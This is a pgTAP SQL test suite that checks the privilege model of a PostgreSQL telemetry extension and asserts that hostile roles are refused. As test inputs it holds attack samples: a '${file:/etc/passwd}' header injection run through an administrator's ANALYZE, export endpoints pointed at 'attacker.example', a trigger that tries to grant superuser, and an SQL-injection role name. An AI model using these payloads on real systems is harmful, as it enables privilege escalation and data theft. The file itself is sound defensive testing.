-- SPDX-License-Identifier: PostgreSQL
-- Who configures, who grants, and whose code runs meanwhile.
\set ON_ERROR_STOP on
SET client_min_messages = error;
SELECT plan(76);

CREATE ROLE roles_admin;
CREATE ROLE roles_hostile;
CREATE ROLE roles_reader;
SELECT genops_grant('roles_admin', 'configure') \g /dev/null
SELECT genops_grant('roles_reader', 'read') \g /dev/null
SELECT genops_grant('roles_reader', 'charge') \g /dev/null
SELECT genops_configure(headers => '{"Authorization": "Bearer sesame-open"}') \g /dev/null
SELECT genops_track('p', 'm', tenant_id => 'acme') \g /dev/null
SELECT genops_flush('stored') \g /dev/null

-- Who may configure needs nothing else.
SET ROLE roles_admin;
SELECT lives_ok(call, 'who may configure may: ' || call) FROM unnest(ARRAY[
	$$SELECT genops_configure(endpoint => 'http://localhost:3200', headers => '{"X-Key": "k"}')$$,
	$$SELECT genops_reset('headers.x-key')$$,
	$$INSERT INTO genops.route (name, team, tenant_id) VALUES ('r', 'platform', 'platform')$$,
	$$SELECT genops_route_headers('r', '{"X-Key": "k"}')$$,
	$$UPDATE genops.route SET name = 'renamed'$$,
	$$DELETE FROM genops.route$$,
	$$SELECT genops_pause_delivery()$$,
	$$SELECT genops_resume_delivery()$$,
	$$SELECT genops_resend('2000-01-01')$$,
	$$SELECT genops_validate(check_connectivity => false, check_write => false, check_read => false, check_traceql => false)$$,
	$$SELECT genops_validation_report(check_connectivity => false, check_write => false, check_read => false, check_traceql => false)$$,
	$$SELECT genops_quick_start()$$,
	$$SELECT * FROM genops.stat_recording$$]) call;
SELECT is(value, '***', 'sees headers masked') FROM genops.configuration WHERE setting = 'headers.authorization';
SELECT is(tenant_id, 'acme' COLLATE "C", 'and how far delivery is') FROM genops.stat_delivery;
SELECT throws_ok(call, '42501', NULL, 'but may not: ' || call) FROM unnest(ARRAY[
	'SELECT * FROM genops.secret', 'UPDATE genops.secret SET value = ''x''', 'INSERT INTO genops.setting VALUES (''endpoint'', ''x'')',
	'SELECT * FROM genops.spans', 'TRUNCATE genops.route', $$SELECT genops_grant('roles_hostile', 'read')$$,
	$$SELECT genops_revoke('public', 'record')$$, $$SELECT genops_pin('roles_hostile', team => 'x')$$]) call;

-- Nor where an administrator's ANALYZE runs his code.
RESET ROLE;
CREATE SCHEMA roles_admin AUTHORIZATION roles_admin;
SET ROLE roles_admin;
CREATE FUNCTION roles_admin.outcome(i integer) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
	PERFORM public.genops_configure(headers => '{"X-Key": "${file:/etc/passwd}"}');
	RETURN 'done';
EXCEPTION WHEN insufficient_privilege THEN
	RETURN 'refused';
END $$;
CREATE TABLE roles_admin.bait AS SELECT 1 AS i;
CREATE INDEX bait_outcome ON roles_admin.bait (roles_admin.outcome(i));
INSERT INTO roles_admin.bait SELECT 1 FROM generate_series(1, 10);
RESET ROLE;
ANALYZE roles_admin.bait;
SELECT is(most_common_vals::text, '{refused}', 'nor makes an administrator''s ANALYZE the server read them') FROM pg_stats WHERE tablename = 'bait_outcome';
SELECT is_empty($$SELECT FROM genops.setting WHERE name = 'headers.x-key'$$, 'and nothing was set');

-- Neither nobody nor a reader may.
RESET ROLE;
CREATE FUNCTION refused(who text, call text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
	PERFORM set_config('role', who, true);
	EXECUTE call;
	RETURN 'done';
EXCEPTION WHEN insufficient_privilege THEN
	RETURN 'refused';
END $$;
SELECT is(refused(who, call), 'refused', who || ' may not: ' || call)
FROM unnest(ARRAY['roles_hostile', 'roles_reader']) who, unnest(ARRAY[
	$$SELECT genops_configure(otlp_endpoint => 'http://attacker.example:4318')$$, $$SELECT genops_reset('all')$$,
	$$SELECT genops_route_headers('r', '{}')$$, $$INSERT INTO genops.route (name, otlp_endpoint) VALUES ('r', 'http://attacker.example')$$,
	$$SELECT genops_pause_delivery()$$, $$SELECT genops_resume_delivery()$$, $$SELECT genops_resend('2000-01-01')$$,
	$$SELECT genops_validate()$$, $$SELECT genops_validation_report()$$, $$SELECT genops_quick_start()$$,
	$$SELECT * FROM genops.secret$$, $$SELECT genops_internal.wake_worker()$$, $$SELECT genops_grant('roles_hostile', 'configure')$$,
	$$CREATE TABLE genops.mine ()$$]) call;

-- A trigger of somebody who has ALL on the tables runs as nobody.
GRANT ALL ON ALL TABLES IN SCHEMA genops TO roles_hostile;
GRANT CREATE ON SCHEMA public TO roles_hostile;
SET ROLE roles_hostile;
CREATE FUNCTION public.become_superuser() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN ALTER ROLE roles_hostile SUPERUSER; RETURN NULL; END$$;
RESET ROLE;
CREATE FUNCTION trigger_refused(relation text, call text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
	message text;
BEGIN
	SET LOCAL ROLE roles_hostile;
	EXECUTE format('CREATE TRIGGER trap BEFORE INSERT OR UPDATE OR DELETE ON genops.%I FOR EACH STATEMENT EXECUTE FUNCTION public.become_superuser()', relation);
	RESET ROLE;
	BEGIN
		EXECUTE call;
		message := 'done';
	EXCEPTION WHEN insufficient_privilege THEN
		message := SQLERRM;
	END;
	EXECUTE format('DROP TRIGGER trap ON genops.%I', relation);
	RETURN message;
END $$;
SELECT is(trigger_refused(relation, call), format('trigger "trap" on table "genops.%s" is refused', relation), 'a trap on ' || relation || ' is seen by ' || call)
FROM (VALUES ('setting', $$SELECT genops_configure(endpoint => 'http://localhost:3201')$$), ('secret', $$SELECT genops_configure(headers => '{"X-Key": "k"}')$$),
	('route', $$SELECT genops_route_headers('r', '{}')$$), ('setting', $$SELECT genops_reset('all')$$),
	('ledger_state', 'SELECT genops_pause_delivery()'), ('delivery', $$SELECT genops_resume_delivery('now')$$),
	('delivery_resend', $$SELECT genops_resend('2000-01-01')$$), ('reader', $$SELECT genops_grant('roles_reader', 'read')$$),
	('reader', $$SELECT genops_revoke('roles_reader', 'read')$$), ('pin', $$SELECT genops_pin('roles_reader', team => 't')$$),
	('pin', $$SELECT genops_unpin('roles_reader')$$)) AS t (relation, call);
SELECT isnt(usesuper, true, 'nobody became superuser') FROM pg_user WHERE usename = 'roles_hostile';

-- What cannot be granted.
SELECT throws_ok($$SELECT genops_grant('roles_missing', 'read')$$, '42704', 'role "roles_missing" does not exist', 'a role must be');
SELECT throws_ok($$SELECT genops_grant(NULL, 'read')$$, '42704', NULL, 'and be named');
SELECT throws_ok($$SELECT genops_grant('roles_reader', 'write')$$, '22023', 'unrecognized privilege "write"', 'a privilege must be one');
SELECT throws_ok($$SELECT genops_grant('roles_reader', NULL)$$, '22023', NULL, 'and be named');
SELECT throws_ok($$SELECT genops_grant('roles_reader', 'record', '{acme}')$$, '22023', NULL, 'only reading is by tenant');
SELECT throws_ok(format('SELECT genops_grant(''roles_reader'', ''read'', %L)', tenants), '22023', NULL, 'tenants must be some: ' || tenants)
FROM unnest(ARRAY['{}', '{acme,NULL}', '{acme,a|b}', '{a/b}', '{..}']) tenants;
CREATE ROLE "roles Odd""; DROP TABLE x";
SELECT lives_ok($$SELECT genops_grant('roles Odd"; DROP TABLE x', 'configure')$$, 'a name may be any');
SELECT ok(has_function_privilege('roles Odd"; DROP TABLE x', 'genops_reset(text)', 'EXECUTE'), 'and is the role''s');

DROP OWNED BY roles_admin, roles_hostile, roles_reader, "roles Odd""; DROP TABLE x";
DROP ROLE roles_admin, roles_hostile, roles_reader, "roles Odd""; DROP TABLE x";
SELECT * FROM finish();
